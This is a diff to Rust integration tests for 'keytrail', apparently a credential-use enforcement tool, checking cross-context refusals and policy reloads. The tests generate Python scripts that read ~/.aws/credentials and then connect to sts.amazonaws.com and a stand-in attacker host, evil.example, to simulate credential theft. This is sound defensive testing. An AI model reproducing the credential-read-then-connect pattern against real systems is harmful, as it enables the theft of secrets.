@@ -14,15 +14,23 @@ const AWS_SECRET: &str = "kt/enforce/aws/secret/000000000000000000071";
 
 /// A policy: the default, with out-of-scope uses refused.
 fn deny_policy() -> std::path::PathBuf {
-    let path = std::env::temp_dir().join(format!("kt-enforce-{}.toml", std::process::id()));
+    policy_denying("out-of-scope-use", ("", ""))
+}
+
+/// A policy file: the default, with `rule`'s findings refused, and the first `edit.0`
+/// replaced with `edit.1`.
+fn policy_denying(rule: &str, edit: (&str, &str)) -> std::path::PathBuf {
+    let path = std::env::temp_dir().join(format!("kt-enforce-{rule}-{}.toml", std::process::id()));
     let default = run(Command::new(keytrail_bin()).args(["policy", "--default"])).stdout;
     let text = String::from_utf8(default).unwrap();
-    let header = "[rules.out-of-scope-use]\n";
+    let header = format!("[rules.{rule}]\n");
     assert!(
-        text.contains(header),
+        text.contains(&header),
         "the default policy has the rule's table"
     );
-    let text = text.replacen(header, &format!("{header}action = \"deny\"\n"), 1);
+    let text = text.replacen(&header, &format!("{header}action = \"deny\"\n"), 1);
+    assert!(text.contains(edit.0), "the default policy has {:?}", edit.0);
+    let text = text.replacen(edit.0, edit.1, 1);
     std::fs::write(&path, text).unwrap();
     run(Command::new(keytrail_bin()).arg("check-config").arg(&path));
     path
@@ -225,4 +233,173 @@ fn nothing_stays_refused_once_keytrail_is_killed() {
         pairs(&[("evil.example", "ECONNREFUSED")]),
         "after SIGKILL the hooks are gone with their maps"
     );
+}
+
+/// Python that reads the AWS key (if `read`) in the context its environment gives, then starts
+/// a child with the label `argv[1]` (empty: the parent's environment as it is) that reads the
+/// key too when `argv[2]` is `read`, and connects to each host.
+fn handing_script(read: bool, hosts: &[&str]) -> String {
+    format!(
+        "import os, subprocess, sys\n\
+         {}\n\
+         env = dict(os.environ)\n\
+         if sys.argv[1]:\n\
+         \x20   env['KEYTRAIL_CONTEXT'] = sys.argv[1]\n\
+         child = {:?} if sys.argv[2] == 'read' else {:?}\n\
+         subprocess.run(['python3', '-c', child], env=env)\n",
+        if read {
+            "open(os.path.expanduser('~/.aws/credentials')).read()"
+        } else {
+            "pass"
+        },
+        connect_script(true, hosts),
+        connect_script(false, hosts),
+    )
+}
+
+/// A parent labelled `parent` that reads the key hands it to a child labelled `child`.
+fn handed(ns: &Netns, user: &TestUser, parent: &str, child: &str, child_reads: bool) -> Output {
+    ns.command_as(user, "python3")
+        .env("KEYTRAIL_CONTEXT", parent)
+        .args([
+            "-c",
+            &handing_script(true, &["sts.amazonaws.com", "evil.example"]),
+        ])
+        .arg(child)
+        .arg(if child_reads { "read" } else { "no" })
+        .output()
+        .expect("python3")
+}
+
+#[test]
+fn a_credential_carried_into_another_context_is_refused_in_its_scope() {
+    require_root();
+    let (user, ns, _dnsmasq) = setup("enfctx");
+    let policy = policy_denying("cross-context-reuse", ("", ""));
+    let mut k = Keytrail::start(&["--config", policy.to_str().unwrap()]);
+    let ready = k.records[0].clone();
+    assert_eq!(ready["enforcement"]["contexts"], "deny", "{ready}");
+
+    // Handed to a child that declares another context: its use inside the key's scope is
+    // refused; outside the scope it is no use of the key (out-of-scope uses are not refused
+    // by this policy).
+    let output = handed(&ns, &user, "task-a", "task-b", false);
+    assert_eq!(
+        outcomes(&output),
+        pairs(&[
+            ("sts.amazonaws.com", "EPERM"),
+            ("evil.example", "ECONNREFUSED")
+        ]),
+        "handed across contexts: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let finding = k.wait_for("the refusal's finding", WAIT, |r| {
+        r["type"] == "finding"
+            && r["rule"] == "cross-context-reuse"
+            && r["context"] == "task-b"
+            && r["action"] == "denied"
+    });
+    assert_eq!(
+        finding["endpoint"]["host"], "sts.amazonaws.com",
+        "{finding}"
+    );
+    // In the same context (the label inherited), and after a read of its own in the new one:
+    // let through.
+    for (child, reads) in [("", false), ("task-b", true)] {
+        let output = handed(&ns, &user, "task-a", child, reads);
+        assert_eq!(
+            outcomes(&output),
+            pairs(&[
+                ("sts.amazonaws.com", "ECONNREFUSED"),
+                ("evil.example", "ECONNREFUSED")
+            ]),
+            "child label {child:?}, reads: {reads}"
+        );
+    }
+    k.stop();
+}
+
+#[test]
+fn a_credential_owned_by_a_context_is_refused_to_the_others() {
+    require_root();
+    let (user, ns, _dnsmasq) = setup("enfown");
+    // The default's AWS rule, owned by a context.
+    let aws = "paths = [\"~/.aws/credentials\", \"~/.aws/config\"]\n";
+    let policy = policy_denying(
+        "cross-context-reuse",
+        (aws, &format!("{aws}context = \"tenant-a\"\n")),
+    );
+    let mut k = Keytrail::start(&["--config", policy.to_str().unwrap()]);
+    assert_eq!(k.records[0]["enforcement"]["contexts"], "deny");
+    let connect = |label: &str| {
+        ns.command_as(&user, "python3")
+            .env("KEYTRAIL_CONTEXT", label)
+            .args(["-c", &connect_script(true, &["sts.amazonaws.com"])])
+            .output()
+            .expect("python3")
+    };
+    assert_eq!(
+        outcomes(&connect("tenant-a")),
+        pairs(&[("sts.amazonaws.com", "ECONNREFUSED")]),
+        "the owner"
+    );
+    assert_eq!(
+        outcomes(&connect("tenant-b")),
+        pairs(&[("sts.amazonaws.com", "EPERM")]),
+        "another context"
+    );
+    // Read by its owner, handed to a child in another context.
+    let output = handed(&ns, &user, "tenant-a", "tenant-b", false);
+    assert_eq!(
+        outcomes(&output),
+        pairs(&[("sts.amazonaws.com", "EPERM"), ("evil.example", "EPERM")]),
+        "handed away by its owner"
+    );
+    let finding = k.wait_for("the owner's finding", WAIT, |r| {
+        r["type"] == "finding"
+            && r["rule"] == "cross-context-reuse"
+            && r["context"] == "tenant-b"
+            && r["action"] == "denied"
+    });
+    assert!(
+        finding["summary"]
+            .as_str()
+            .unwrap()
+            .contains("belongs to context tenant-a"),
+        "{finding}"
+    );
+    k.stop();
+}
+
+#[test]
+fn a_reload_puts_a_new_plan_in_force_and_takes_it_back() {
+    require_root();
+    let (user, ns, _dnsmasq) = setup("enfhup");
+    let dir = scratch_dir("enfhup");
+    let policy = dir.join("policy.toml");
+    let default = run(Command::new(keytrail_bin()).args(["policy", "--default"])).stdout;
+    let refusing = std::fs::read(deny_policy()).unwrap();
+    std::fs::write(&policy, &default).unwrap();
+    let mut k = Keytrail::start(&["--config", policy.to_str().unwrap()]);
+    let script = connect_script(true, &["evil.example"]);
+    let outcome = |k: &mut Keytrail, content: &[u8]| {
+        std::fs::write(&policy, content).unwrap();
+        // SAFETY: signalling our own child.
+        unsafe { libc::kill(k.pid() as i32, libc::SIGHUP) };
+        k.settle(std::time::Duration::from_millis(500));
+        outcomes(&python(&ns, &user, &script).1)
+    };
+    let through = pairs(&[("evil.example", "ECONNREFUSED")]);
+    assert_eq!(
+        outcome(&mut k, &default),
+        through,
+        "the default refuses nothing"
+    );
+    assert_eq!(
+        outcome(&mut k, &refusing),
+        pairs(&[("evil.example", "EPERM")]),
+        "reloaded with out-of-scope uses refused"
+    );
+    assert_eq!(outcome(&mut k, &default), through, "and back");
+    k.stop();
 }
